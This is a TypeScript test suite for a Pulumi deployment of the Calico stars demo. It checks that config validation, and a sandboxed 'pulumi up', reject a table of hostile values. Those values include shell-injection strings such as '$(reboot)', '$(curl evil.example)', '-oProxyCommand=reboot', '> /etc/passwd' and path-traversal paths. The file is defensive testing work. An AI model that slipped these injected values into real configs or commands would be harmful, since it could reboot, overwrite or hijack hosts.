// Hostile stack config: shell metacharacters, quotes, newlines, $(...), backticks
// and leading dashes in every string a user can set; malformed ports, CIDRs and IPs; and the semantic
// mistakes (a tag naming no network, a duplicate network, an empty policy, a profile for an unmanaged
// network, a malformed stars template, an unknown key). Each must be refused by config validation with
// an error naming its key, before any resource exists. Every input is checked twice: through
// parseStackConfig as index.ts calls it, and through the real program on the sandbox, whose audit logs
// (one line per remote command) must not grow. The sandbox part needs root and the sandbox's packages;
// it skips, saying so, without them.
import * as assert from "assert";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { ConfigError, parseStackConfig, runbookNetworks, runbookPolicy, StarsTemplate } from "../../components/config";
import { emulators, RunError, TestEngine } from "../../engine";
import { SandboxStack, sandboxStackConfig } from "../../scripts/sandboxStack";
import { startStackOrSkip } from "../support/sandboxStack";

interface HostileInput {
    /** the key without its "calico-stars:" namespace */
    key: string;
    /** the raw value, as `pulumi config set` stores it (JSON text for structured keys) */
    value: string;
    /** the error must say this: the key (down to the offending element) and what is wrong */
    expect: RegExp;
}

type Policy = Record<string, { inbound: string[]; outbound: string[] }>;

const projectDir = path.resolve(__dirname, "../..");
const json = JSON.stringify;
const starsTemplate = JSON.parse(
    fs.readFileSync(path.join(projectDir, "components/stars.json"), "utf8"),
) as StarsTemplate;

/** The runbook's networks plus one more, at index 4. */
const withNetwork = (name: string) => json([...runbookNetworks, { name }]);
const withCollectorSubnet = (subnet: string) => json([{ name: "management-ui", subnet }, ...runbookNetworks.slice(1)]);
/** The runbook's policy with one rule appended: backend's inbound rule [3], client's outbound rule [1]. */
const withRule = (profile: "backend" | "client", direction: "inbound" | "outbound", rule: string) =>
    json({
        ...runbookPolicy,
        [profile]: { ...runbookPolicy[profile], [direction]: [...runbookPolicy[profile][direction], rule] },
    });
const withProfile = (profile: string) =>
    json({ ...runbookPolicy, [profile]: { inbound: [], outbound: ["allow"] } } satisfies Policy);
const withTemplate = (edit: (template: StarsTemplate) => void) => {
    const template = structuredClone(starsTemplate);
    edit(template);
    return json(template);
};
const sandboxMaster = { address: "10.197.0.11", port: 22 };
const sandboxAgents = [
    { address: "10.197.0.12", port: 22 },
    { address: "10.197.0.13", port: 22 },
];
const withAgents = (...addresses: string[]) => json(addresses.map((address) => ({ address, port: 22 })));
const fakeHostKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHiG";

const hostileInputs: HostileInput[] = [
    // ---- Docker network names (also Calico profiles and tags)
    {
        key: "networks",
        value: withNetwork("$(reboot)"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("`reboot`"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("web;reboot"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("web && reboot"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("-rf"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("web\nreboot"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork("it's"),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork('"web"'),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork(""),
        expect: /calico-stars:networks\[4\]\.name: must be a Docker network name/,
    },
    {
        key: "networks",
        value: withNetwork(".hidden"),
        expect: /calico-stars:networks\[4\]\.name: must start with a letter or digit/,
    },
    {
        key: "networks",
        value: withNetwork("w".repeat(65)),
        expect: /calico-stars:networks\[4\]\.name: Too big: expected string to have <=64 characters/,
    },
    // ---- subnets and CIDRs
    {
        key: "networks",
        value: withCollectorSubnet("192.168.0.0/16; reboot"),
        expect: /calico-stars:networks\[0\]\.subnet: must be an IPv4 CIDR/,
    },
    {
        key: "networks",
        value: withCollectorSubnet("192.168.0.0/33"),
        expect: /calico-stars:networks\[0\]\.subnet: must be an IPv4 CIDR/,
    },
    {
        key: "networks",
        value: withCollectorSubnet("192.168.0.0"),
        expect: /calico-stars:networks\[0\]\.subnet: must be an IPv4 CIDR/,
    },
    {
        key: "networks",
        value: withCollectorSubnet("300.168.0.0/16"),
        expect: /calico-stars:networks\[0\]\.subnet: must be an IPv4 CIDR/,
    },
    {
        key: "networks",
        value: withCollectorSubnet("192.168.1.0/16"),
        expect: /calico-stars:networks\[0\]\.subnet: 192\.168\.1\.0\/16 has host bits set; the network is 192\.168\.0\.0\/16/,
    },
    // ---- the network list as a whole
    {
        key: "networks",
        value: json([...runbookNetworks, { name: "backend" }]),
        expect: /calico-stars:networks: network "backend" is listed more than once/,
    },
    {
        key: "networks",
        value: json(runbookNetworks.slice(0, 3)),
        expect: /calico-stars:networks: the default stars template needs network "backend"/,
    },
    {
        key: "networks",
        value: json([{ name: "management-ui" }, ...runbookNetworks.slice(1)]),
        expect: /calico-stars:networks: the collector's network "management-ui" needs a subnet/,
    },
    { key: "networks", value: "[]", expect: /calico-stars:networks: needs at least one network/ },

    // ---- policy: profile names, the policy as a whole
    {
        key: "policy",
        value: withProfile("$(reboot)"),
        expect: /calico-stars:policy\["\$\(reboot\)"\]: must be a Docker network name/,
    },
    { key: "policy", value: withProfile("-rf"), expect: /calico-stars:policy\.-rf: must be a Docker network name/ },
    {
        key: "policy",
        value: withProfile("backend\n"),
        expect: /calico-stars:policy\["backend\\n"\]: must be a Docker network name/,
    },
    { key: "policy", value: withProfile("web"), expect: /calico-stars:policy\.web: names no managed network/ },
    { key: "policy", value: "{}", expect: /calico-stars:policy: is empty/ },
    { key: "policy", value: "allow all", expect: /calico-stars:policy: is not valid JSON/ },
    // ---- rule strings
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow; reboot"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: Invalid calicoctl rule .*expected "allow" or "deny" but found "allow;"/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports 9000 && reboot"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*unexpected "&&" \(not part of the grammar\)/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports 9000\nreboot"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*"9000\\nreboot" is not a port number/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports $(id)"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*"\$\(id\)" is not a port number/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from tag `reboot`"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*tag "`reboot`" is not a valid calico tag/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from tag -frontend"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*tag "-frontend" is not a valid calico tag/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from tag 'frontend'"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*tag "'frontend'" is not a valid calico tag/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "--help"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*expected "allow" or "deny" but found "--help"/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", ""),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*the rule is empty/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports 70000"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*port "70000" is out of range/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports 0x50"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*"0x50" is not a port number/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to ports 9000:80"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*calicoctl 0\.x has no port ranges/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow tcp to port 9000"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*the keyword is "ports", plural/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from cidr 10.0.0.0/33"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*cidr "10\.0\.0\.0\/33" has a prefix length outside/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from cidr 10.0.0.256"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: .*cidr "10\.0\.0\.256" is not an IPv4 or IPv6 address/,
    },
    {
        key: "policy",
        value: withRule("client", "outbound", "allow to tag database"),
        expect: /calico-stars:policy\.client\.outbound\[1\]: tag "database" names no managed network/,
    },
    {
        key: "policy",
        value: withRule("backend", "inbound", "allow from tag backend"),
        expect: /calico-stars:policy\.backend\.inbound\[3\]: duplicates rule 0/,
    },

    // ---- the star image (pre-pulled with docker on every agent)
    {
        key: "image",
        value: "djosborne/star:v0.5.0; reboot",
        expect: /calico-stars:image: must be a Docker image reference/,
    },
    { key: "image", value: "$(curl evil.example)", expect: /calico-stars:image: must be a Docker image reference/ },
    { key: "image", value: "`reboot`", expect: /calico-stars:image: must be a Docker image reference/ },
    { key: "image", value: "--privileged", expect: /calico-stars:image: must be a Docker image reference/ },
    {
        key: "image",
        value: "djosborne/star:v0.5.0\nreboot",
        expect: /calico-stars:image: must be a Docker image reference/,
    },
    { key: "image", value: "'djosborne/star:v0.5.0'", expect: /calico-stars:image: must be a Docker image reference/ },
    {
        key: "image",
        value: "djosborne/star:v0.5.0 --rm",
        expect: /calico-stars:image: must be a Docker image reference/,
    },
    { key: "image", value: "", expect: /calico-stars:image: must be a Docker image reference/ },
    { key: "image", value: "djosborne/star:", expect: /calico-stars:image: must be a Docker image reference/ },

    // ---- Marathon group and app ids
    { key: "groupId", value: "calico-stars;reboot", expect: /calico-stars:groupId: must be a Marathon path/ },
    { key: "groupId", value: "$(id)", expect: /calico-stars:groupId: must be a Marathon path/ },
    {
        key: "groupId",
        value: "/calico-stars",
        expect: /calico-stars:groupId: must be a Marathon path without a leading slash/,
    },
    { key: "groupId", value: "-calico-stars", expect: /calico-stars:groupId: must be a Marathon path/ },
    { key: "groupId", value: "calico-stars\n", expect: /calico-stars:groupId: must be a Marathon path/ },
    { key: "groupId", value: "../etc", expect: /calico-stars:groupId: must be a Marathon path/ },
    // ---- the stars template override: app ids, commands, shape, meaning
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.collector.id = "$(id)";
        }),
        expect: /calico-stars:starsTemplate\.collector\.id: must be a Marathon app id/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[0].id = "-client";
        }),
        expect: /calico-stars:starsTemplate\.probes\[0\]\.id: must be a Marathon app id/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[0].resourceId = "C;D";
        }),
        expect: /calico-stars:starsTemplate\.probes\[0\]\.resourceId: must be a short id/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[0].network = "$(id)";
        }),
        expect: /calico-stars:starsTemplate\.probes\[0\]\.network: must be a managed network's name/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.collector.cmd += " $(id)";
        }),
        expect: /calico-stars:starsTemplate\.collector\.cmd: may hold only words/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.collector.cmd += " `id`";
        }),
        expect: /calico-stars:starsTemplate\.collector\.cmd: may hold only words/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probeCmd += " > /etc/passwd";
        }),
        expect: /calico-stars:starsTemplate\.probeCmd: may hold only words/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probeCmd += "\nreboot";
        }),
        expect: /calico-stars:starsTemplate\.probeCmd: may hold only words/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probeCmd = t.probeCmd.replace("{{urls}}", "'{{urls}}'");
        }),
        expect: /calico-stars:starsTemplate\.probeCmd: may hold only words/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.collector.cmd += " {{nope}}";
        }),
        expect: /calico-stars:starsTemplate\.collector\.cmd: \{\{nope\}\} is not filled in here/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.collector.cmd += " --urls={{urls}}";
        }),
        expect: /calico-stars:starsTemplate\.collector\.cmd: \{\{urls\}\} is not filled in here/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probeCmd = t.probeCmd.replace(" --urls={{urls}}", "");
        }),
        expect: /calico-stars:starsTemplate\.probeCmd: must contain \{\{urls\}\}/,
    },
    {
        key: "starsTemplate",
        value: json(starsTemplate).slice(0, -1),
        expect: /calico-stars:starsTemplate: is not valid JSON/,
    },
    {
        key: "starsTemplate",
        value: "[]",
        expect: /calico-stars:starsTemplate: Invalid input: expected object, received array/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            delete (t as Partial<StarsTemplate>).probes;
        }),
        expect: /calico-stars:starsTemplate\.probes: Invalid input: expected array/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            (t as Record<string, unknown>).command = "reboot";
        }),
        expect: /calico-stars:starsTemplate: Unrecognized key: "command"/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes = [];
        }),
        expect: /calico-stars:starsTemplate\.probes: needs at least one probe/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[0].network = "web";
        }),
        expect: /calico-stars:starsTemplate: app "client" joins network "web", which is not managed/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[1].id = "client";
        }),
        expect: /calico-stars:starsTemplate: app id "client" is used twice/,
    },
    {
        key: "starsTemplate",
        value: withTemplate((t) => {
            t.probes[1].resourceId = "C";
        }),
        expect: /calico-stars:starsTemplate\.probes\[1\]\.resourceId: resource id "C" is used twice/,
    },

    // ---- the interface of the PREROUTING DNAT rule (an iptables argument)
    {
        key: "publicInterface",
        value: "eth1;reboot",
        expect: /calico-stars:publicInterface: must be a Linux interface name/,
    },
    { key: "publicInterface", value: "$(id)", expect: /calico-stars:publicInterface: must be a Linux interface name/ },
    { key: "publicInterface", value: "-j", expect: /calico-stars:publicInterface: must be a Linux interface name/ },
    { key: "publicInterface", value: "eth1\n", expect: /calico-stars:publicInterface: must be a Linux interface name/ },
    { key: "publicInterface", value: "eth 1", expect: /calico-stars:publicInterface: must be a Linux interface name/ },
    { key: "publicInterface", value: "eth1:0", expect: /calico-stars:publicInterface: must be a Linux interface name/ },
    {
        key: "publicInterface",
        value: "veryverylongname",
        expect: /calico-stars:publicInterface: must be a Linux interface name \(up to 15/,
    },

    // ---- hosts, users and addresses
    {
        key: "master",
        value: json({ address: "10.197.0.11;reboot" }),
        expect: /calico-stars:master\.address: must be an IP address or a DNS name/,
    },
    {
        key: "master",
        value: json({ address: "-oProxyCommand=reboot" }),
        expect: /calico-stars:master\.address: must be an IP address or a DNS name/,
    },
    {
        key: "master",
        value: json({ ...sandboxMaster, user: "$(id)" }),
        expect: /calico-stars:master\.user: must be a Unix user name/,
    },
    { key: "master", value: json({ ...sandboxMaster, port: 0 }), expect: /calico-stars:master\.port: must be 1-65535/ },
    {
        key: "master",
        value: json({ ...sandboxMaster, port: "22" }),
        expect: /calico-stars:master\.port: Invalid input: expected number, received string/,
    },
    {
        key: "agents",
        value: withAgents("10.197.0.12", "10.197.0.256"),
        expect: /calico-stars:agents\[1\]\.address: must be an IP address or a DNS name/,
    },
    {
        key: "agents",
        value: withAgents("10.197.0.12", "10.197.0.13", "10.197.0.12"),
        expect: /calico-stars:agents\[2\]\.address: 10\.197\.0\.12 is listed twice/,
    },
    { key: "agents", value: "[]", expect: /calico-stars:agents: needs at least one agent/ },
    { key: "sshUser", value: "root;reboot", expect: /calico-stars:sshUser: must be a Unix user name/ },
    { key: "sshUser", value: "-oProxyCommand=reboot", expect: /calico-stars:sshUser: must be a Unix user name/ },
    { key: "networkHost", value: "`reboot`", expect: /calico-stars:networkHost: must be an IP address or a DNS name/ },
    {
        key: "networkHost",
        value: "10.197.0.99",
        expect: /calico-stars:networkHost: 10\.197\.0\.99 is neither the master nor an agent/,
    },
    {
        key: "marathonHost",
        value: "127.0.0.1 && reboot",
        expect: /calico-stars:marathonHost: must be an IP address or a DNS name/,
    },
    {
        key: "dnatHosts",
        value: json(["$(id)"]),
        expect: /calico-stars:dnatHosts\[0\]: must be an IP address or a DNS name/,
    },
    {
        key: "dnatHosts",
        value: json(["10.197.0.11", "10.197.0.11"]),
        expect: /calico-stars:dnatHosts\[1\]: 10\.197\.0\.11 is listed twice/,
    },
    {
        key: "mesosDnsDomain",
        value: "marathon.mesos;reboot",
        expect: /calico-stars:mesosDnsDomain: must be a DNS domain/,
    },
    { key: "mesosDnsDomain", value: "$(id).mesos", expect: /calico-stars:mesosDnsDomain: must be a DNS domain/ },
    {
        key: "mesosDnsStyle",
        value: "hyphen;reboot",
        expect: /calico-stars:mesosDnsStyle: Invalid option: expected one of "hyphen"\|"dot"/,
    },
    { key: "collectorIp", value: "192.168.255.256", expect: /calico-stars:collectorIp: must be an IPv4 address/ },
    { key: "collectorIp", value: "192.168.0.1/32", expect: /calico-stars:collectorIp: must be an IPv4 address/ },
    { key: "collectorIp", value: "fe80::1", expect: /calico-stars:collectorIp: must be an IPv4 address/ },
    { key: "collectorIp", value: "$(id)", expect: /calico-stars:collectorIp: must be an IPv4 address/ },
    { key: "etcdAuthority", value: "$(id):2379", expect: /calico-stars:etcdAuthority: must be host:port/ },
    { key: "etcdAuthority", value: "-x:2379", expect: /calico-stars:etcdAuthority: must be host:port/ },
    { key: "etcdAuthority", value: "etcd:99999", expect: /calico-stars:etcdAuthority: must be host:port/ },
    { key: "etcdAuthority", value: "127.0.0.1:2379;reboot", expect: /calico-stars:etcdAuthority: must be host:port/ },
    { key: "etcdAuthority", value: "etcd", expect: /calico-stars:etcdAuthority: must be host:port/ },
    // ---- the resources file's directory on the agents
    { key: "resourcesDir", value: "/var/tmp/$(id)", expect: /calico-stars:resourcesDir: must be an absolute path/ },
    { key: "resourcesDir", value: "var/tmp", expect: /calico-stars:resourcesDir: must be an absolute path/ },
    { key: "resourcesDir", value: "/var/tmp/../../etc", expect: /calico-stars:resourcesDir: must not contain \.\./ },
    { key: "resourcesDir", value: "/var/tmp\n/etc", expect: /calico-stars:resourcesDir: must be an absolute path/ },
    { key: "resourcesDir", value: "-rf", expect: /calico-stars:resourcesDir: must be an absolute path/ },

    // ---- ports and other numbers
    { key: "uiPort", value: "0", expect: /calico-stars:uiPort: must be 1-65535/ },
    { key: "uiPort", value: "65536", expect: /calico-stars:uiPort: must be 1-65535/ },
    { key: "uiPort", value: "-1", expect: /calico-stars:uiPort: must be 1-65535/ },
    { key: "uiPort", value: "9001.5", expect: /calico-stars:uiPort: must be a whole number/ },
    { key: "uiPort", value: "9001;reboot", expect: /calico-stars:uiPort: is not valid JSON/ },
    {
        key: "marathonPort",
        value: '"8080"',
        expect: /calico-stars:marathonPort: Invalid input: expected number, received string/,
    },
    { key: "marathonPort", value: "", expect: /calico-stars:marathonPort: is not valid JSON/ },
    {
        key: "collectorPort",
        value: "null",
        expect: /calico-stars:collectorPort: Invalid input: expected number, received null/,
    },
    { key: "collectorPort", value: "1e9", expect: /calico-stars:collectorPort: must be 1-65535/ },
    {
        key: "probePort",
        value: "[9000]",
        expect: /calico-stars:probePort: Invalid input: expected number, received array/,
    },
    { key: "sudo", value: "yes", expect: /calico-stars:sudo: is not valid JSON/ },
    { key: "connectAttempts", value: "0", expect: /calico-stars:connectAttempts: Too small/ },
    { key: "commandTimeoutSeconds", value: "-5", expect: /calico-stars:commandTimeoutSeconds: Too small/ },
    { key: "deploymentTimeoutSeconds", value: "1e6", expect: /calico-stars:deploymentTimeoutSeconds: Too big/ },

    // ---- credentials and host keys (read on the machine that runs pulumi, never sent to a host)
    {
        key: "sshPrivateKeyPath",
        value: "$(touch /tmp/pwned)",
        expect: /calico-stars:sshPrivateKeyPath: must name a readable file/,
    },
    { key: "knownHostsPath", value: "`reboot`", expect: /calico-stars:knownHostsPath: must name a readable file/ },
    {
        key: "sshAgentSocket",
        value: "/tmp/agent.sock; reboot",
        expect: /calico-stars:sshAgentSocket: must name an SSH agent's socket/,
    },
    {
        key: "insecureSkipHostKeyVerification",
        value: '"true"',
        expect: /calico-stars:insecureSkipHostKeyVerification: Invalid input: expected boolean/,
    },
    {
        key: "hostKeys",
        value: json({ "$(id)": [fakeHostKey] }),
        expect: /calico-stars:hostKeys\["\$\(id\)"\]: must be a host address, or \[address\]:port/,
    },
    {
        key: "hostKeys",
        value: json({ "10.197.0.12": [`${fakeHostKey}\nssh-rsa AAAA`] }),
        expect: /calico-stars:hostKeys\.10\.197\.0\.12\[0\]: must be a public key line/,
    },
    {
        key: "hostKeys",
        value: json({ "10.197.0.12": ["$(reboot)"] }),
        expect: /calico-stars:hostKeys\.10\.197\.0\.12\[0\]: must be a public key line/,
    },
    { key: "hostKeys", value: json({ "10.197.0.12": [] }), expect: /calico-stars:hostKeys\.10\.197\.0\.12: Too small/ },
    { key: "hostKeys", value: "{}", expect: /calico-stars:hostKeys: no public key for 10\.197\.0\.12/ },
    {
        key: "hostKeyFingerprints",
        value: json({ "10.197.0.11": ["SHA256:$(id)"] }),
        expect: /calico-stars:hostKeyFingerprints\.10\.197\.0\.11\[0\]: must be an OpenSSH SHA256 fingerprint/,
    },
    {
        key: "hostKeyFingerprints",
        value: json({ "10.197.0.11:99999": ["SHA256:" + "A".repeat(43)] }),
        expect: /calico-stars:hostKeyFingerprints\.10\.197\.0\.11:99999: must be a host address, or \[address\]:port/,
    },

    // ---- unknown keys
    { key: "polices", value: "{}", expect: /calico-stars:polices: unknown configuration key/ },
    { key: "Image", value: "djosborne/star:v0.5.0", expect: /calico-stars:Image: unknown configuration key/ },
    {
        key: "image:latest",
        value: "djosborne/star:latest",
        expect: /calico-stars:image:latest: unknown configuration key/,
    },
    { key: "sshPassword", value: "vagrant", expect: /calico-stars:sshPassword: unknown configuration key/ },
];

/** What index.ts does: every present key is listed, the two secrets are never read as plain values. */
function problemWith(config: Record<string, string>): string {
    try {
        parseStackConfig(
            (key) =>
                ["calico-stars:sshPrivateKey", "calico-stars:sshPrivateKeyPassphrase"].includes(key)
                    ? undefined
                    : config[key],
            Object.keys(config),
        );
    } catch (err) {
        assert.ok(err instanceof ConfigError, `expected a ConfigError, got ${err}`);
        return err.message;
    }
    return "(accepted)";
}

const withInputs = (base: Record<string, string>, inputs: readonly HostileInput[]) => ({
    ...base,
    ...Object.fromEntries(inputs.map((input) => [`calico-stars:${input.key}`, input.value])),
});

/**
 * Runs of the program that together try every input: one value per key in a run, and only inputs whose
 * errors all still show together (config validation reports every problem at once, except that cross-key
 * checks run only once each key is well-formed). About 2 s per run instead of 2 s per input.
 */
function packIntoRuns(base: Record<string, string>): HostileInput[][] {
    const runs: HostileInput[][] = [];
    for (const input of hostileInputs) {
        const fits = (run: HostileInput[]) =>
            !run.some((other) => other.key === input.key) &&
            [...run, input].every((member) => member.expect.test(problemWith(withInputs(base, [...run, input]))));
        const run = runs.find(fits);
        if (run) {
            run.push(input);
        } else {
            runs.push([input]);
        }
    }
    return runs;
}

describe("hostile stack config: refused by config validation, naming the key", function () {
    let keyDir: string;
    let base: Record<string, string>;

    before(function () {
        // the stack config the sandbox part uses, with a stand-in key file and host keys
        keyDir = fs.mkdtempSync(path.join(os.tmpdir(), "calico-stars-hostile-"));
        fs.writeFileSync(path.join(keyDir, "id_ed25519"), "not read by config validation\n");
        const host = (address: { address: string; port: number }) => ({ ...address, user: "vagrant" });
        base = sandboxStackConfig({
            master: host(sandboxMaster),
            agents: sandboxAgents.map(host),
            sudo: true,
            etcd: { authority: "10.197.0.11:2379" },
            sshPrivateKeyPath: path.join(keyDir, "id_ed25519"),
            hostKeyFingerprints: Object.fromEntries(
                [sandboxMaster, ...sandboxAgents].map((h) => [h.address, ["SHA256:" + "A".repeat(43)]]),
            ),
            hostKeys: Object.fromEntries([sandboxMaster, ...sandboxAgents].map((h) => [h.address, [fakeHostKey]])),
            publicInterface: "eth1",
        });
    });

    after(function () {
        fs.rmSync(keyDir, { recursive: true, force: true });
    });

    it(`the table holds ${hostileInputs.length} distinct hostile inputs (at least 60)`, function () {
        const distinct = new Set(hostileInputs.map((input) => json([input.key, input.value])));
        assert.strictEqual(distinct.size, hostileInputs.length);
        assert.ok(hostileInputs.length >= 60);
    });

    it("accepts the stack config the inputs are set on, so each refusal is the input's doing", function () {
        assert.strictEqual(problemWith(base), "(accepted)");
    });

    for (const input of hostileInputs) {
        it(`${input.key} = ${json(input.value).slice(0, 100)}`, function () {
            const message = problemWith(withInputs(base, [input]));
            assert.ok(message.includes(`calico-stars:${input.key}`), message);
            assert.match(message, input.expect);
        });
    }
});

describe("hostile stack config through the program on the sandbox: nothing runs on any host", function () {
    this.timeout(300000);
    let stack: SandboxStack;
    let auditBefore: number;

    before(async function () {
        stack = await startStackOrSkip(this);
    });

    after(async function () {
        await stack?.close();
    });

    it("every input fails `pulumi up` with its key named, before any resource is registered", async function () {
        const base = sandboxStackConfig(stack.cluster);
        const runs = packIntoRuns(base);
        auditBefore = stack.auditLines();
        for (const run of runs) {
            // a fresh engine per run: setConfig cannot unset the previous run's keys
            const engine = new TestEngine({
                projectDir,
                project: "calico-stars",
                stack: "sandbox",
                config: withInputs(base, run),
                emulators,
            });
            try {
                await assert.rejects(engine.up(), (error: Error) => {
                    assert.ok(error instanceof RunError, String(error));
                    for (const input of run) {
                        assert.match(error.message, input.expect, `${input.key} = ${json(input.value)}`);
                    }
                    assert.deepStrictEqual(
                        error.result.steps.filter((step) => step.type !== "pulumi:pulumi:Stack"),
                        [],
                    );
                    assert.deepStrictEqual(
                        error.result.rpcCalls.filter((call) => call.method !== "Configure"),
                        [],
                    );
                    return true;
                });
            } finally {
                await engine.close();
            }
        }
        const growth = stack.auditLines() - auditBefore;
        console.log(
            `      hostile inputs tried: ${hostileInputs.length}, in ${runs.length} program runs; audit-log growth on all hosts: ${growth} lines`,
        );
        assert.strictEqual(growth, 0);
    });

    it("the audit logs do record remote commands, so no growth means nothing ran", async function () {
        const before = stack.auditLines();
        await stack.on(stack.agent, ["true"]);
        assert.strictEqual(stack.auditLines() - before, 1);
    });
});
